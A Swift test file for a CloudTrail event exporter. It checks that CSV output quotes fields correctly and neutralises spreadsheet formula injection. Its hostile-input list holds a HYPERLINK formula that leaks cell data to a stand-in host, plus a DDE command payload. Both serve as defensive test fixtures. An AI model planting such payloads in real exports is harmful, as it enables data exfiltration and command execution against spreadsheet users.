import Foundation
import Testing
@testable import TrailGridCore

/// Events as CSV, read back by Python's `csv` module (a real RFC 4180
/// reader): attacker-controlled fields come back intact, and none starts
/// with a character a spreadsheet would evaluate.
@Suite struct ExportCSVTests {
    static let hostile = [
        #"=HYPERLINK("http://evil.example/?x="&A1,"click")"#,
        "+1", "-2", "@SUM(A1:A9)", "\tTAB first", "\rCR first", "-cmd|' /C calc'!A0",
        #"a "quoted" word"#, "a,b,c", "line1\nline2", "line1\r\nline2", "cr\rinside",
        " leading space", "trailing space ", "emoji 🛡️ and \u{2028}", "'already quoted", "", "plain",
    ]
    static let formulaStarts: Set<Character> = ["=", "+", "-", "@", "\t", "\r"]

    /// What a reader must get back: the value, prefixed by `'` when it would run as a formula.
    static func expected(_ value: String) -> String {
        guard let first = value.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first) else { return value }
        return "'" + value
    }

    static func event(_ index: Int) -> (event: CloudTrailEvent, watches: [String]) {
        func value(_ field: Int) -> String { hostile[(index + field) % hostile.count] }
        let event = CloudTrailEvent(
            eventID: value(0), eventTime: value(1), timestamp: nil, eventName: value(2), eventSource: value(3),
            awsRegion: value(4), account: value(5), principal: value(6), sourceIPAddress: value(7), userAgent: value(8),
            errorCode: value(9), readOnly: index % 2 == 0, eventType: value(10), detailType: value(11), channel: .trail,
            origin: RecordOrigin(file: "f", offset: index), raw: [])
        return (event, [value(12), "watch"])
    }

    /// The row the CSV must hold for `item`, in `EventFormatter.csvHeader` order.
    static func row(_ item: (event: CloudTrailEvent, watches: [String])) -> [String] {
        let e = item.event
        return [e.eventTime, e.account, e.awsRegion, e.eventSource, e.eventName, e.principal, e.sourceIPAddress ?? "",
                e.userAgent ?? "", e.errorCode ?? "", e.readOnly.map { $0 ? "true" : "false" } ?? "", e.eventID,
                e.eventType ?? "", e.detailType, e.channel.rawValue, item.watches.joined(separator: ";")].map(expected)
    }

    static func parseWithPython(_ path: String) throws -> [[String]] {
        let script = "import csv,sys,json; print(json.dumps(list(csv.reader(open(sys.argv[1], newline='', encoding='utf-8')))))"
        let result = try runTool(["python3", "-c", script, path])
        try #require(result.status == 0, "python3 csv: \(result.output)")
        return try JSONDecoder().decode([[String]].self, from: Data(result.output.utf8))
    }

    @Test func aRealCSVParserReadsBackEveryValueWithFormulasDefused() throws {
        try #require(toolExists("python3"), "python3 is needed to read the CSV back")
        let items = (0..<Self.hostile.count).map(Self.event)
        let path = FeedFixtures.temporaryDirectory().appendingPathComponent("events.csv").path
        let result = try Exporter.writeEvents(items, format: .csv, to: path, overwrite: false)
        #expect(result.count == items.count)

        let rows = try Self.parseWithPython(path)
        #expect(rows.first == EventFormatter.csvHeader)
        #expect(rows.count == items.count + 1)
        for (row, item) in zip(rows.dropFirst(), items) {
            #expect(row == Self.row(item))
            for cell in row {
                #expect(cell.first.map { !Self.formulaStarts.contains($0) } ?? true, "cell starts a formula: \(cell.debugDescription)")
            }
        }
        // Every record ends with CRLF (RFC 4180), including the last.
        let bytes = try readWholeFile(path)
        #expect(bytes.suffix(2) == [0x0D, 0x0A])
    }

    @Test(arguments: hostile)
    func eachCellAlone(value: String) throws {
        let cell = CSVWriter.cell(value)
        // Quoted exactly when RFC 4180 needs it, or when spaces would be trimmed by readers.
        let mustQuote = value.contains(where: { $0 == "," || $0 == "\"" || $0 == "\n" || $0 == "\r" || $0 == "\r\n" }) || value.hasPrefix(" ") || value.hasSuffix(" ")
        #expect(cell.hasPrefix("\"") == mustQuote)
        #expect(!(cell.first.map(Self.formulaStarts.contains) ?? false))
    }
}
